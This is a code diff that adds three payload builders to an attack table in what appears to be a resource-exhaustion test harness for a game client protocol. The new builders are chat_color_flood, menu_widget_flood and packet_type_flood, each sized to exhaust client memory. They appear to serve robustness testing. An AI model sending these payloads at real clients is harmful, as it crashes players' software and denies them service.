@@ -109,3 +109,30 @@ ATTACKS: Dict[str, Callable[[], bytes]] = {
     "many_players": many_players,
     "many_textures": many_textures,
 }
+
+
+def chat_color_flood(lines: int = 40) -> bytes:
+    """Chat lines of one-character runs in alternating colors (21844 segments each, about
+    12 MB of segment dicts if all were kept)."""
+    text = b"\x1b\x02a\x1b\x05b" * 10922
+    return b"".join(frame(8, b"\x00" + text) for _ in range(lines))
+
+
+def menu_widget_flood(count: int = 300) -> bytes:
+    """A menu, then MENU_TEXT widgets with index 0 (the client picks a slot) by the
+    thousand, each text in alternating colors."""
+    text = b"\x1b\x02a\x1b\x05b" * 1000
+    return frame(32, b"\x03\x28\x0c") + b"".join(frame(33, b"\x00\x01\x01" + text)
+                                                 for _ in range(count))
+
+
+def packet_type_flood() -> bytes:
+    """AVAILABLE_PACKET_TYPES with every bit of a 64 KiB bitmap set (524,280 types)."""
+    return frame(0, b"\xff" * 0xFFFF) + IDLE
+
+
+ATTACKS.update({
+    "chat_color_flood": chat_color_flood,
+    "menu_widget_flood": menu_widget_flood,
+    "packet_type_flood": packet_type_flood,
+})
